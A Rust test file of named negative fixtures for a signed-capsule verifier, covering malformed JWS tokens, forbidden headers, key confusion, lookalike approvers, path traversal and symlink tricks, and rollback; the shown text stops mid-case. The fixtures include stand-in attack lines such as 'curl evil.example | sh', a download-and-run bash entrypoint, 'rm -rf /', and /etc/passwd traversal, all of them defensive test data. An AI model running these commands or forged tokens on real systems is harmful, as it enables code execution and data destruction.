//! Named negative fixtures: at least one per reason code, each named for the attack
//! or mistake it stands for. The library tests and the CLI tests run every one of
//! them and assert the exact reason.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::PathBuf;

use serde_json::{json, Value};
use verify_core::Reason;

use crate::governance::{ALICE, BOB, CAROL, GOVERNED, INDEXED, PLANNER, REL};
use crate::{b64_json, sha256_hex, Signer, World, ES_KID, HS_KID, RUNNER};

/// What a case needs besides its capsule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Prior {
    Nothing,
    /// Admit this capsule first, in the same state (for rollback cases).
    Admitted(PathBuf),
    /// The anti-rollback state is unreadable.
    CorruptState,
    /// The anti-rollback state's last-known time is this many seconds ahead of the
    /// clock (the clock was stepped back after the state trusted a later time).
    ClockAhead(u64),
    /// `file` (an artifact of the capsule, relative to it) is truncated while it is hashed.
    TruncatedWhileHashing(PathBuf),
}

#[derive(Debug, Clone)]
pub struct Setup {
    pub capsule: PathBuf,
    /// The runner identity to verify as (`None`: no identity).
    pub runner: Option<&'static str>,
    pub prior: Prior,
    /// The tenant index to verify with (`--index`).
    pub index: Option<PathBuf>,
    /// The tenant index the prior capsule is admitted with.
    pub prior_index: Option<PathBuf>,
    /// The policy to verify under (`None`: the fixture policy, `policy.toml`).
    pub policy: Option<PathBuf>,
}

/// A production capsule of the governed tenant, `edit`ed, properly approved (alice as
/// sre-lead, bob as security): whatever is denied is denied for the edit.
fn approved_production_with(w: &World, n: &str, edit: impl FnOnce(&mut Value)) -> Setup {
    let mut m = w.governed_manifest("production");
    edit(&mut m);
    let dir = w.capsule(n, &m, Signer::Es256);
    w.approve(&dir, ALICE, "sre-lead");
    w.approve(&dir, BOB, "security");
    plain(dir)
}

/// A governance case: verified under the governance policy.
fn governed(w: &World, setup: Setup) -> Setup {
    Setup {
        policy: Some(w.governance_policy_path()),
        ..setup
    }
}

#[derive(Debug, Clone, Copy)]
pub struct Case {
    pub name: &'static str,
    pub reason: Reason,
    pub build: fn(&World, &str) -> Setup,
}

fn plain(capsule: PathBuf) -> Setup {
    Setup {
        capsule,
        runner: Some(RUNNER),
        prior: Prior::Nothing,
        index: None,
        prior_index: None,
        policy: None,
    }
}

/// A compact token from a header, payload bytes and raw signature bytes.
pub fn token(header: &Value, payload: &[u8], sig: &[u8]) -> String {
    format!(
        "{}.{}.{}",
        b64_json(header),
        verify_core::b64::encode(payload),
        verify_core::b64::encode(sig)
    )
}

/// Signs `header.payload` with a fixture key, whatever the header says.
fn signed_with_header(w: &World, header: &Value, signer: Signer) -> String {
    let input = format!(
        "{}.{}",
        b64_json(header),
        verify_core::b64::encode(w.manifest().to_string().as_bytes())
    );
    let (_, key) = w.signing_key(signer);
    let sig = key.sign(input.as_bytes()).expect("sign");
    format!("{input}.{}", verify_core::b64::encode(&sig))
}

fn with_manifest(w: &World, name: &str, edit: impl FnOnce(&mut Value)) -> Setup {
    let mut m = w.manifest();
    edit(&mut m);
    plain(w.capsule(name, &m, Signer::Es256))
}

fn raw(w: &World, name: &str, jws: &str) -> Setup {
    plain(w.capsule_with_jws(name, jws.as_bytes()))
}

/// Replaces the signature part of a good ES256 token.
fn with_signature(w: &World, sig: &[u8]) -> String {
    let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
    let input = &good[..good.rfind('.').expect("three parts")];
    format!("{input}.{}", verify_core::b64::encode(sig))
}

/// The decoded signature of a compact token.
fn signature_of(token: &str) -> Vec<u8> {
    let (_, sig) = token.rsplit_once('.').expect("three parts");
    verify_core::b64::decode(sig.as_bytes()).expect("b64")
}

/// r||s to ASN.1 DER, the form a careless signer produces.
fn der(sig: &[u8]) -> Vec<u8> {
    let int = |x: &[u8]| {
        let x = &x[x.iter().position(|&b| b != 0).unwrap_or(x.len() - 1)..];
        let mut v = vec![0x02];
        let pad = x[0] & 0x80 != 0;
        v.push(u8::try_from(x.len() + usize::from(pad)).expect("short integer"));
        if pad {
            v.push(0);
        }
        v.extend_from_slice(x);
        v
    };
    let body = [int(&sig[..32]), int(&sig[32..])].concat();
    [
        vec![0x30, u8::try_from(body.len()).expect("short sequence")],
        body,
    ]
    .concat()
}

pub const CASES: &[Case] = &[
    Case {
        name: "two-part-token",
        reason: Reason::MalformedJws,
        build: |w, n| {
            let good = w.sign(b"{}", Signer::Es256);
            raw(w, n, &good[..good.rfind('.').expect("dot")])
        },
    },
    Case {
        name: "json-serialization-not-compact",
        reason: Reason::MalformedJws,
        build: |w, n| {
            raw(
                w,
                n,
                r#"{"payload":"e30","signatures":[{"protected":"e30","signature":"AA"}]}"#,
            )
        },
    },
    Case {
        name: "non-canonical-base64-signature",
        reason: Reason::MalformedJws,
        build: |w, n| {
            // A 64-byte signature encodes to 86 chars whose last char carries 4 zero bits;
            // flipping one of those bits gives the same bytes with a second spelling.
            let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
            let mut bytes = good.into_bytes();
            let last = bytes.len() - 1;
            let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
            let pos = alphabet
                .iter()
                .position(|&c| c == bytes[last])
                .expect("b64 char");
            bytes[last] = alphabet[pos | 1];
            raw(w, n, &String::from_utf8(bytes).expect("ascii"))
        },
    },
    Case {
        name: "padded-base64",
        reason: Reason::MalformedJws,
        build: |w, n| {
            let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
            raw(w, n, &format!("{good}=="))
        },
    },
    Case {
        name: "header-not-json",
        reason: Reason::MalformedHeader,
        build: |w, n| {
            raw(
                w,
                n,
                &format!("{}.e30.AA", verify_core::b64::encode(b"alg=ES256")),
            )
        },
    },
    Case {
        name: "header-duplicate-alg",
        reason: Reason::MalformedHeader,
        build: |w, n| {
            let header = br#"{"alg":"HS256","alg":"ES256","kid":"k-es-2025"}"#;
            raw(
                w,
                n,
                &format!("{}.e30.AA", verify_core::b64::encode(header)),
            )
        },
    },
    Case {
        name: "header-unknown-member-cty",
        reason: Reason::MalformedHeader,
        build: |w, n| {
            raw(
                w,
                n,
                &signed_with_header(
                    w,
                    &json!({"alg":"ES256","kid":ES_KID,"cty":"json"}),
                    Signer::Es256,
                ),
            )
        },
    },
    Case {
        name: "header-missing-kid",
        reason: Reason::MalformedHeader,
        build: |w, n| {
            raw(
                w,
                n,
                &signed_with_header(w, &json!({"alg":"ES256"}), Signer::Es256),
            )
        },
    },
    Case {
        name: "header-embedded-jwk",
        reason: Reason::HeaderForbidden,
        build: |w, n| {
            let h = json!({"alg":"ES256","kid":ES_KID,"jwk": w.other.to_json(false)});
            raw(w, n, &signed_with_header(w, &h, Signer::Es256))
        },
    },
    Case {
        name: "header-jku-remote-keys",
        reason: Reason::HeaderForbidden,
        build: |w, n| {
            let h = json!({"alg":"ES256","kid":ES_KID,"jku":"https://evil.example/jwks"});
            raw(w, n, &signed_with_header(w, &h, Signer::Es256))
        },
    },
    Case {
        name: "header-x5u",
        reason: Reason::HeaderForbidden,
        build: |w, n| {
            raw(
                w,
                n,
                &signed_with_header(
                    w,
                    &json!({"alg":"ES256","kid":ES_KID,"x5u":"https://evil.example/c"}),
                    Signer::Es256,
                ),
            )
        },
    },
    Case {
        name: "header-x5c",
        reason: Reason::HeaderForbidden,
        build: |w, n| {
            raw(
                w,
                n,
                &signed_with_header(
                    w,
                    &json!({"alg":"ES256","kid":ES_KID,"x5c":["MIIB"]}),
                    Signer::Es256,
                ),
            )
        },
    },
    Case {
        name: "header-crit",
        reason: Reason::HeaderForbidden,
        build: |w, n| {
            raw(
                w,
                n,
                &signed_with_header(
                    w,
                    &json!({"alg":"ES256","kid":ES_KID,"crit":["exp"]}),
                    Signer::Es256,
                ),
            )
        },
    },
    Case {
        name: "header-b64-false-unencoded-payload",
        reason: Reason::HeaderForbidden,
        build: |w, n| {
            raw(
                w,
                n,
                &signed_with_header(
                    w,
                    &json!({"alg":"ES256","kid":ES_KID,"b64":false}),
                    Signer::Es256,
                ),
            )
        },
    },
    Case {
        name: "header-zip",
        reason: Reason::HeaderForbidden,
        build: |w, n| {
            raw(
                w,
                n,
                &signed_with_header(
                    w,
                    &json!({"alg":"ES256","kid":ES_KID,"zip":"DEF"}),
                    Signer::Es256,
                ),
            )
        },
    },
    Case {
        name: "alg-none-unsecured",
        reason: Reason::AlgNotAllowed,
        build: |w, n| {
            let t = format!(
                "{}.{}.",
                b64_json(&json!({"alg":"none","kid":ES_KID})),
                verify_core::b64::encode(w.manifest().to_string().as_bytes())
            );
            raw(w, n, &t)
        },
    },
    Case {
        name: "alg-rs256",
        reason: Reason::AlgNotAllowed,
        build: |w, n| {
            raw(
                w,
                n,
                &token(
                    &json!({"alg":"RS256","kid":ES_KID}),
                    w.manifest().to_string().as_bytes(),
                    &[1; 256],
                ),
            )
        },
    },
    Case {
        name: "kid-not-in-trust-store",
        reason: Reason::UnknownKid,
        build: |w, n| {
            raw(
                w,
                n,
                &signed_with_header(w, &json!({"alg":"ES256","kid":"k-attacker"}), Signer::Es256),
            )
        },
    },
    Case {
        name: "kid-path-injection",
        reason: Reason::UnknownKid,
        build: |w, n| {
            raw(
                w,
                n,
                &signed_with_header(
                    w,
                    &json!({"alg":"ES256","kid":"../../trusted.jwks.json"}),
                    Signer::Es256,
                ),
            )
        },
    },
    Case {
        name: "hs256-keyed-with-es-public-key",
        reason: Reason::AlgKeyMismatch,
        build: |w, n| {
            // The classic confusion: HMAC keyed with the EC public key the verifier knows.
            let h = json!({"alg":"HS256","kid":ES_KID});
            let input = format!(
                "{}.{}",
                b64_json(&h),
                verify_core::b64::encode(w.manifest().to_string().as_bytes())
            );
            let pub_jwk = w.es.to_json(false).to_string();
            let key = verify_core::crypto::default_backend().hs256_key(pub_jwk.as_bytes());
            raw(
                w,
                n,
                &format!(
                    "{input}.{}",
                    verify_core::b64::encode(&key.sign(input.as_bytes()))
                ),
            )
        },
    },
    Case {
        name: "es256-header-on-hs-key",
        reason: Reason::AlgKeyMismatch,
        build: |w, n| {
            raw(
                w,
                n,
                &signed_with_header(w, &json!({"alg":"ES256","kid":HS_KID}), Signer::Hs256),
            )
        },
    },
    Case {
        name: "signature-bit-flip",
        reason: Reason::SignatureInvalid,
        build: |w, n| {
            let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
            let sig = signature_of(&good);
            let mut sig = sig;
            sig[10] ^= 1;
            raw(w, n, &with_signature(w, &sig))
        },
    },
    Case {
        name: "payload-swapped-after-signing",
        reason: Reason::SignatureInvalid,
        build: |w, n| {
            let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
            let parts: Vec<&str> = good.split('.').collect();
            let mut m = w.manifest();
            m["version"] = json!(8);
            raw(
                w,
                n,
                &format!(
                    "{}.{}.{}",
                    parts[0],
                    verify_core::b64::encode(m.to_string().as_bytes()),
                    parts[2]
                ),
            )
        },
    },
    Case {
        name: "psychic-signature-zero-r-s",
        reason: Reason::SignatureInvalid,
        build: |w, n| raw(w, n, &with_signature(w, &[0u8; 64])),
    },
    Case {
        name: "der-encoded-es256-signature",
        reason: Reason::SignatureInvalid,
        build: |w, n| {
            let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
            let sig = signature_of(&good);
            raw(w, n, &with_signature(w, &der(&sig)))
        },
    },
    Case {
        name: "hs256-truncated-tag",
        reason: Reason::SignatureInvalid,
        build: |w, n| {
            let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Hs256);
            let (input, sig) = good.rsplit_once('.').expect("dot");
            let tag = verify_core::b64::decode(sig.as_bytes()).expect("b64");
            raw(
                w,
                n,
                &format!("{input}.{}", verify_core::b64::encode(&tag[..16])),
            )
        },
    },
    Case {
        name: "manifest-unknown-field",
        reason: Reason::MalformedManifest,
        build: |w, n| with_manifest(w, n, |m| m["privileged"] = json!(true)),
    },
    Case {
        name: "manifest-duplicate-key",
        reason: Reason::MalformedManifest,
        build: |w, n| {
            // Two `version` members: a parser that keeps the last would read 99.
            let text = w.manifest().to_string().replacen(
                "\"version\":7",
                "\"version\":7,\"version\":99",
                1,
            );
            assert!(text.contains("\"version\":99"), "fixture edit applied");
            raw(w, n, &w.sign(text.as_bytes(), Signer::Es256))
        },
    },
    Case {
        name: "manifest-duplicate-env-key",
        reason: Reason::MalformedManifest,
        build: |w, n| {
            let text = w.manifest().to_string().replacen(
                "\"env\":{",
                "\"env\":{\"TARGET\":\"https://evil.example\",",
                1,
            );
            raw(w, n, &w.sign(text.as_bytes(), Signer::Es256))
        },
    },
    Case {
        name: "manifest-not-json",
        reason: Reason::MalformedManifest,
        build: |w, n| raw(w, n, &w.sign(b"schema: capsule/v1", Signer::Es256)),
    },
    Case {
        name: "manifest-deeply-nested",
        reason: Reason::MalformedManifest,
        build: |w, n| {
            let deep = format!("{}{}", "[".repeat(5000), "]".repeat(5000));
            raw(w, n, &w.sign(deep.as_bytes(), Signer::Es256))
        },
    },
    // A digest that is not spelled as one is a format problem (malformed_manifest),
    // never a mismatch: the bytes were not even compared.
    Case {
        name: "artifact-digest-uppercase-hex",
        reason: Reason::MalformedManifest,
        build: |w, n| {
            with_manifest(w, n, |m| {
                let upper = sha256_hex(crate::RUN_SH).to_ascii_uppercase();
                m["artifacts"][0]["sha256"] = json!(format!("sha256:{upper}"));
            })
        },
    },
    Case {
        name: "artifact-digest-63-hex-chars",
        reason: Reason::MalformedManifest,
        build: |w, n| {
            with_manifest(w, n, |m| {
                let short = &sha256_hex(crate::RUN_SH)[1..];
                m["artifacts"][0]["sha256"] = json!(short);
            })
        },
    },
    Case {
        name: "tool-digest-sha512-prefix",
        reason: Reason::MalformedManifest,
        build: |w, n| {
            with_manifest(w, n, |m| {
                let hex = sha256_hex(crate::TOOL_BYTES);
                m["tools"][0]["sha256"] = json!(format!("sha512:{hex}"));
            })
        },
    },
    Case {
        name: "parent-digest-uppercase-hex",
        reason: Reason::MalformedManifest,
        build: |w, n| with_manifest(w, n, |m| m["parent"] = json!("AB".repeat(32))),
    },
    Case {
        name: "tenant-not-in-policy",
        reason: Reason::TenantUnknown,
        build: |w, n| with_manifest(w, n, |m| m["tenant"] = json!("globex")),
    },
    Case {
        name: "cross-tenant-key",
        reason: Reason::TenantKeyMismatch,
        build: |w, n| plain(w.capsule(n, &w.manifest(), Signer::Other)),
    },
    Case {
        name: "stale-policy-version",
        reason: Reason::PolicyMismatch,
        build: |w, n| with_manifest(w, n, |m| m["policy_version"] = json!("2024-01-01.1")),
    },
    Case {
        name: "not-yet-valid",
        reason: Reason::NotYetValid,
        build: |w, n| with_manifest(w, n, |m| m["not_before"] = json!(w.now + 3600)),
    },
    Case {
        name: "expired",
        reason: Reason::Expired,
        build: |w, n| {
            with_manifest(w, n, |m| {
                m["not_before"] = json!(w.now - 7200);
                m["expires_at"] = json!(w.now - 3600);
            })
        },
    },
    Case {
        name: "runner-not-named-by-manifest",
        reason: Reason::RunnerNotAllowed,
        build: |w, n| {
            with_manifest(w, n, |m| {
                m["runners"] = json!(["spiffe://acme.example/other/*"])
            })
        },
    },
    Case {
        name: "no-runner-identity",
        reason: Reason::RunnerNotAllowed,
        build: |w, n| Setup {
            runner: None,
            ..plain(w.good_capsule(n, Signer::Es256))
        },
    },
    // The tenant restricts runners: without an identity nothing is allowed, whatever
    // the manifest's own `runners` says.
    Case {
        name: "no-runner-identity-manifest-runners-empty",
        reason: Reason::RunnerNotAllowed,
        build: |w, n| Setup {
            runner: None,
            ..with_manifest(w, n, |m| m["runners"] = json!([]))
        },
    },
    Case {
        name: "no-runner-identity-manifest-runners-missing",
        reason: Reason::RunnerNotAllowed,
        build: |w, n| Setup {
            runner: None,
            ..with_manifest(w, n, |m| {
                m.as_object_mut().expect("object").remove("runners");
            })
        },
    },
    Case {
        name: "runner-from-other-trust-domain",
        reason: Reason::RunnerNotAllowed,
        build: |w, n| Setup {
            runner: Some("spiffe://evil.example/runner/r1"),
            ..with_manifest(w, n, |m| m["runners"] = json!([]))
        },
    },
    Case {
        name: "scope-production-environment",
        reason: Reason::ScopeViolation,
        build: |w, n| with_manifest(w, n, |m| m["scope"]["environment"] = json!("production")),
    },
    Case {
        name: "scope-host-network",
        reason: Reason::ScopeViolation,
        build: |w, n| with_manifest(w, n, |m| m["scope"]["network"] = json!("host")),
    },
    Case {
        name: "tool-not-in-armory",
        reason: Reason::ToolNotAuthorized,
        build: |w, n| {
            let evil = b"#!/bin/sh\ncurl evil.example | sh\n";
            let s = with_manifest(w, n, |m| {
                m["tools"][0]["sha256"] = json!(sha256_hex(evil));
                m["tools"][0]["size"] = json!(evil.len());
            });
            fs::write(s.capsule.join("files/tools/busybox"), evil).expect("write");
            s
        },
    },
    Case {
        // The program that runs is any host program: the armory is bypassed.
        name: "entrypoint-host-shell-runs-a-downloaded-script",
        reason: Reason::ToolNotAuthorized,
        build: |w, n| {
            with_manifest(w, n, |m| {
                m["entrypoint"] = json!([
                    "/bin/bash",
                    "-c",
                    "curl -s https://evil.example/payload | sh"
                ])
            })
        },
    },
    Case {
        // `/bin/sh` is allowed; another spelling of it is not the same string.
        name: "entrypoint-host-program-in-another-spelling",
        reason: Reason::ToolNotAuthorized,
        build: |w, n| with_manifest(w, n, |m| m["entrypoint"] = json!(["/bin//sh", "-c", "id"])),
    },
    Case {
        name: "entrypoint-staged-file-not-in-manifest",
        reason: Reason::ToolNotAuthorized,
        build: |w, n| {
            with_manifest(w, n, |m| {
                m["entrypoint"] = json!(["/capsule/not-in-manifest"])
            })
        },
    },
    Case {
        name: "entrypoint-escapes-capsule-dir",
        reason: Reason::ToolNotAuthorized,
        build: |w, n| with_manifest(w, n, |m| m["entrypoint"] = json!(["/capsule/../bin/bash"])),
    },
    Case {
        name: "entrypoint-relative-path",
        reason: Reason::ToolNotAuthorized,
        build: |w, n| with_manifest(w, n, |m| m["entrypoint"] = json!(["run.sh"])),
    },
    Case {
        name: "entrypoint-script-shebang-names-disallowed-interpreter",
        reason: Reason::ToolNotAuthorized,
        build: |w, n| {
            let script: &[u8] = b"#!/usr/bin/perl\nsystem('curl evil.example | sh');\n";
            let files: [(&str, &[u8]); 1] = [("run.sh", script)];
            let mut m = w.script_manifest(&files);
            m["entrypoint"] = json!(["/capsule/run.sh"]);
            plain(w.capsule_with_files(n, &m, &files, Signer::Es256))
        },
    },
    Case {
        // The interpreter is staged, but is itself a script for a disallowed one.
        name: "entrypoint-script-interpreter-chain-reaches-disallowed-interpreter",
        reason: Reason::ToolNotAuthorized,
        build: |w, n| {
            let files: [(&str, &[u8]); 2] = [
                ("run.sh", b"#!/capsule/lib/interp\necho hi\n"),
                ("lib/interp", b"#! /usr/bin/python3 -S\nimport os\n"),
            ];
            let mut m = w.script_manifest(&files);
            m["entrypoint"] = json!(["/capsule/run.sh"]);
            plain(w.capsule_with_files(n, &m, &files, Signer::Es256))
        },
    },
    Case {
        name: "self-approval-by-author",
        reason: Reason::ApprovalInsufficient,
        build: |w, n| {
            with_manifest(w, n, |m| {
                m["approvals"][0]["approver"] = json!("planner@acme.example")
            })
        },
    },
    // The author approving under a lookalike of their own identity: each spelling is
    // refused as malformed, none counts as a second person.
    Case {
        name: "approver-author-with-trailing-space",
        reason: Reason::MalformedManifest,
        build: |w, n| self_approval_as(w, n, "planner@acme.example "),
    },
    Case {
        name: "approver-author-in-fullwidth-letters",
        reason: Reason::MalformedManifest,
        build: |w, n| {
            self_approval_as(
                w,
                n,
                "\u{ff50}\u{ff4c}\u{ff41}\u{ff4e}\u{ff4e}\u{ff45}\u{ff52}@acme.example",
            )
        },
    },
    Case {
        name: "approver-author-with-trailing-dot",
        reason: Reason::MalformedManifest,
        build: |w, n| self_approval_as(w, n, "planner@acme.example."),
    },
    Case {
        name: "approver-author-with-zero-width-space",
        reason: Reason::MalformedManifest,
        build: |w, n| self_approval_as(w, n, "plan\u{200b}ner@acme.example"),
    },
    Case {
        name: "approver-author-in-uppercase",
        reason: Reason::MalformedManifest,
        build: |w, n| self_approval_as(w, n, "Planner@acme.example"),
    },
    Case {
        name: "approver-nfd-accents-lookalike-of-nfc",
        reason: Reason::MalformedManifest,
        build: |w, n| {
            with_manifest(w, n, |m| {
                m["author"] = json!("asa@acme.example");
                m["approvals"] = json!([
                    {"approver": "\u{e5}sa@acme.example", "role": "sre-lead", "approved_at": w.now - 300},
                    {"approver": "a\u{30a}sa@acme.example", "role": "sre-lead", "approved_at": w.now - 300},
                ]);
            })
        },
    },
    Case {
        name: "author-in-uppercase",
        reason: Reason::MalformedManifest,
        build: |w, n| with_manifest(w, n, |m| m["author"] = json!("PLANNER@acme.example")),
    },
    Case {
        name: "no-approvals",
        reason: Reason::ApprovalInsufficient,
        build: |w, n| with_manifest(w, n, |m| m["approvals"] = json!([])),
    },
    Case {
        name: "approval-from-the-future",
        reason: Reason::ApprovalInsufficient,
        build: |w, n| {
            with_manifest(w, n, |m| {
                m["approvals"][0]["approved_at"] = json!(w.now + 3600)
            })
        },
    },
    Case {
        name: "rollback-to-older-version",
        reason: Reason::Rollback,
        build: |w, n| {
            let mut newer = w.manifest();
            newer["version"] = json!(9);
            let prior = w.capsule(&format!("{n}-prior"), &newer, Signer::Es256);
            Setup {
                prior: Prior::Admitted(prior),
                ..plain(w.good_capsule(n, Signer::Es256))
            }
        },
    },
    Case {
        name: "same-version-other-bytes",
        reason: Reason::Rollback,
        build: |w, n| {
            let mut first = w.manifest();
            first["env"]["EXTRA"] = json!("1");
            let prior = w.capsule(&format!("{n}-prior"), &first, Signer::Es256);
            Setup {
                prior: Prior::Admitted(prior),
                ..plain(w.good_capsule(n, Signer::Es256))
            }
        },
    },
    Case {
        name: "artifact-path-traversal",
        reason: Reason::ArtifactPathInvalid,
        build: |w, n| {
            with_manifest(w, n, |m| {
                m["artifacts"][0]["path"] = json!("../../etc/passwd")
            })
        },
    },
    Case {
        name: "artifact-absolute-path",
        reason: Reason::ArtifactPathInvalid,
        build: |w, n| with_manifest(w, n, |m| m["artifacts"][0]["path"] = json!("/etc/passwd")),
    },
    Case {
        name: "artifact-symlink-swap",
        reason: Reason::ArtifactPathInvalid,
        build: |w, n| {
            let s = plain(w.good_capsule(n, Signer::Es256));
            let decoy = w.write(&format!("{n}-decoy/run.sh"), crate::RUN_SH);
            fs::remove_file(s.capsule.join("files/run.sh")).expect("rm");
            symlink(decoy, s.capsule.join("files/run.sh")).expect("symlink");
            s
        },
    },
    Case {
        name: "artifact-symlinked-directory",
        reason: Reason::ArtifactPathInvalid,
        build: |w, n| {
            let s = plain(w.good_capsule(n, Signer::Es256));
            let decoy = w.path(&format!("{n}-decoy-tools"));
            fs::create_dir_all(&decoy).expect("mkdir");
            fs::write(decoy.join("busybox"), crate::TOOL_BYTES).expect("write");
            fs::remove_dir_all(s.capsule.join("files/tools")).expect("rm");
            symlink(decoy, s.capsule.join("files/tools")).expect("symlink");
            s
        },
    },
    Case {
        name: "artifact-is-a-fifo",
        reason: Reason::ArtifactPathInvalid,
        build: |w, n| {
            let s = plain(w.good_capsule(n, Signer::Es256));
            let p = s.capsule.join("files/run.sh");
            fs::remove_file(&p).expect("rm");
            mkfifo(&p);
            s
        },
    },
    Case {
        name: "artifact-is-a-device-node",
        reason: Reason::ArtifactPathInvalid,
        build: |w, n| {
            let s = plain(w.good_capsule(n, Signer::Es256));
            let p = s.capsule.join("files/run.sh");
            fs::remove_file(&p).expect("rm");
            mknod_dev_zero(&p);
            s
        },
    },
    Case {
        name: "files-dir-is-a-symlink",
        reason: Reason::ArtifactPathInvalid,
        build: |w, n| {
            let s = plain(w.good_capsule(n, Signer::Es256));
            let decoy = w.path(&format!("{n}-decoy-files"));
            fs::rename(s.capsule.join("files"), &decoy).expect("mv");
            symlink(decoy, s.capsule.join("files")).expect("symlink");
            s
        },
    },
    Case {
        name: "artifact-missing",
        reason: Reason::ArtifactMissing,
        build: |w, n| {
            let s = plain(w.good_capsule(n, Signer::Es256));
            fs::remove_file(s.capsule.join("files/run.sh")).expect("rm");
            s
        },
    },
    Case {
        name: "artifact-grown",
        reason: Reason::ArtifactSizeMismatch,
        build: |w, n| {
            let s = plain(w.good_capsule(n, Signer::Es256));
            fs::write(
                s.capsule.join("files/run.sh"),
                [crate::RUN_SH, b"rm -rf /\n"].concat(),
            )
            .expect("write");
            s
        },
    },
    Case {
        name: "artifact-same-size-other-bytes",
        reason: Reason::DigestMismatch,
        build: |w, n| {
            let s = plain(w.good_capsule(n, Signer::Es256));
            let mut evil = crate::RUN_SH.to_vec();
            evil[12] ^= 0x20;
            fs::write(s.capsule.join("files/run.sh"), evil).expect("write");
            s
        },
    },
    Case {
        name: "artifact-truncated-while-hashed",
        reason: Reason::ArtifactChanged,
        build: |w, n| {
            let big = big_artifact();
            let mut m = w.manifest();
            m["artifacts"] =
                json!([{"path": "big.bin", "sha256": sha256_hex(&big), "size": big.len()}]);
            // Nothing of it is a program: the entrypoint is an allowed host program.
            m["entrypoint"] = json!(["/bin/true"]);
            let s = plain(w.capsule(n, &m, Signer::Es256));
            fs::write(s.capsule.join("files/big.bin"), &big).expect("write");
            Setup {
                prior: Prior::TruncatedWhileHashing(PathBuf::from("files/big.bin")),
                ..s
            }
        },
    },
    Case {
        name: "oversized-jws",
        reason: Reason::LimitExceeded,
        build: |w, n| with_manifest(w, n, |m| m["env"]["PAD"] = json!("x".repeat(70_000))),
    },
    Case {
        name: "too-many-artifacts",
        reason: Reason::LimitExceeded,
        build: |w, n| {
            with_manifest(w, n, |m| {
                let many: Vec<Value> = (0..20)
                    .map(|i| json!({"path": format!("a{i}"), "sha256": "00".repeat(32), "size": 1}))
                    .collect();
                m["artifacts"] = json!(many);
            })
        },
    },
    Case {
        name: "timeout-beyond-policy",
        reason: Reason::LimitExceeded,
        build: |w, n| with_manifest(w, n, |m| m["limits"]["timeout_ms"] = json!(86_400_000u64)),
    },
    Case {
        name: "oversized-sparse-jws-file",
        reason: Reason::LimitExceeded,
        build: |w, n| {
            // 1 TiB on paper: refused by its size, never read.
            let s = plain(w.good_capsule(n, Signer::Es256));
            let f = fs::OpenOptions::new()
                .write(true)
                .open(s.capsule.join("capsule.jws"))
                .expect("open");
            f.set_len(1 << 40).expect("sparse file");
            s
        },
    },
    Case {
        name: "capsule-jws-symlink-to-host-file",
        reason: Reason::CapsuleUnreadable,
        build: |w, n| {
            jws_replaced(w, n, |w, p| {
                symlink(host_secret(w), p).expect("symlink");
            })
        },
    },
    Case {
        name: "capsule-jws-symlink-to-trust-store",
        reason: Reason::CapsuleUnreadable,
        build: |w, n| {
            jws_replaced(w, n, |w, p| {
                symlink(w.path("trusted.jwks.json"), p).expect("symlink");
            })
        },
    },
    Case {
        name: "capsule-jws-hard-link-to-host-file",
        reason: Reason::CapsuleUnreadable,
        build: |w, n| {
            jws_replaced(w, n, |w, p| {
                fs::hard_link(host_secret(w), p).expect("hard link");
            })
        },
    },
    Case {
        name: "capsule-jws-is-a-fifo",
        reason: Reason::CapsuleUnreadable,
        build: |w, n| jws_replaced(w, n, |_, p| mkfifo(p)),
    },
    Case {
        name: "capsule-jws-is-a-device-node",
        reason: Reason::CapsuleUnreadable,
        build: |w, n| jws_replaced(w, n, |_, p| mknod_dev_zero(p)),
    },
    Case {
        name: "capsule-jws-symlink-to-dev-zero",
        reason: Reason::CapsuleUnreadable,
        build: |w, n| {
            jws_replaced(w, n, |_, p| {
                symlink("/dev/zero", p).expect("symlink");
            })
        },
    },
    Case {
        name: "capsule-jws-is-a-directory",
        reason: Reason::CapsuleUnreadable,
        build: |w, n| jws_replaced(w, n, |_, p| fs::create_dir(p).expect("mkdir")),
    },
    Case {
        name: "capsule-jws-missing",
        reason: Reason::CapsuleUnreadable,
        build: |w, n| jws_replaced(w, n, |_, _| {}),
    },
    Case {
        name: "capsule-dir-missing",
        reason: Reason::CapsuleUnreadable,
        build: |w, n| plain(w.path(n)),
    },
    Case {
        name: "capsule-dir-is-a-symlink",
        reason: Reason::CapsuleUnreadable,
        build: |w, n| {
            let real = w.good_capsule(&format!("{n}-real"), Signer::Es256);
            let link = w.path(n);
            symlink(real, &link).expect("symlink");
            plain(link)
        },
    },
    Case {
        name: "capsule-dir-is-a-fifo",
        reason: Reason::CapsuleUnreadable,
        build: |w, n| {
            let p = w.path(n);
            mkfifo(&p);
            plain(p)
        },
    },
    Case {
        name: "clock-stepped-back-behind-the-last-known-time",
        reason: Reason::ClockRollback,
        build: |w, n| Setup {
            // A day: far beyond the fixture policy's clock_skew_s.
            prior: Prior::ClockAhead(86_400),
            ..plain(w.good_capsule(n, Signer::Es256))
        },
    },
    Case {
        name: "state-unreadable",
        reason: Reason::StateUnavailable,
        build: |w, n| Setup {
            prior: Prior::CorruptState,
            ..plain(w.good_capsule(n, Signer::Es256))
        },
    },
    // Governance (issue 13): signed approvals, rules per environment, lineage, index.
    Case {
        name: "approval-signed-by-another-approvers-key",
        reason: Reason::ApprovalInvalid,
        build: |w, n| {
            governed(w, {
                let dir = w.approved_production_capsule(n);
                // alice's kid in the header, bob's signature under it.
                let payload =
                    serde_json::to_vec(&w.approval_payload(&dir, "sre-lead")).expect("json");
                let bob = verify_core::keys::SigningKey::from_jwk(w.approver_key(BOB), w.backend)
                    .expect("bob's key");
                let alice_kid = &w.approver_key(ALICE).kid;
                let forged = verify_core::jws::sign_compact(
                    alice_kid,
                    verify_core::Alg::Es256,
                    &payload,
                    &bob,
                )
                .expect("sign");
                w.put_approval(&dir, "alice-sre-lead", &forged);
                plain(dir)
            })
        },
    },
    Case {
        name: "approval-of-another-manifest",
        reason: Reason::ApprovalInvalid,
        build: |w, n| {
            governed(w, {
                let other = w.capsule(
                    &format!("{n}-other"),
                    &w.governed_manifest("staging"),
                    Signer::Es256,
                );
                let dir = w.approved_production_capsule(n);
                let stale =
